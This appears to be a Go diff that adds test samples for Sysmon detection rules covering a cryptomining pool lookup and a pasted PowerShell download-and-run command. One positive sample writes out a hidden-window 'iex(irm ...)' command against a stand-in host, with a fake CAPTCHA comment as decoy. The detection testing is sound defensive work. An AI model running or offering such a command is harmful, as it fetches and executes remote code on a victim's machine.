@@ -643,6 +643,23 @@ func init() {
 				"QueryName": "raw.githubusercontent.com",
 			},
 		},
+		ruleSample{
+			ID:      "b8edb063-9968-4d92-a7d8-a5cdcb6f8702", // Mining Pool Domain Resolved
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     "C:\\ProgramData\\Intel\\svchost.exe",
+				"QueryName": "pool.supportxmr.com",
+			},
+		},
+		ruleSample{
+			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w h -c \"iex(irm https://verify-captcha.example/c)\" # I am not a robot - reCAPTCHA ID 4821",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -1262,6 +1279,32 @@ func init() {
 			Fields: map[string]string{
 				"Image":     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
 				"QueryName": "officeclient.microsoft.com",
+			},
+		},
+		ruleSample{
+			ID:      "b8edb063-9968-4d92-a7d8-a5cdcb6f8702", // Mining Pool Domain Resolved
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
+			Fields: map[string]string{
+				"Image":     "C:\\Windows\\System32\\svchost.exe",
+				"QueryName": "settings-win.data.microsoft.com",
+			},
+		},
+		ruleSample{
+			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit -Command \"Set-Location C:\\Projects\\#2026\"",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		ruleSample{
+			ID:      "8f30348d-8d35-42fd-93fa-fad254367b62", // Pasted Download-and-Run Command Started by Explorer With a Decoy Comment
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "cmd.exe /c start iexplore https://intranet.contoso.local/#/home",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
 			},
 		},
 	)
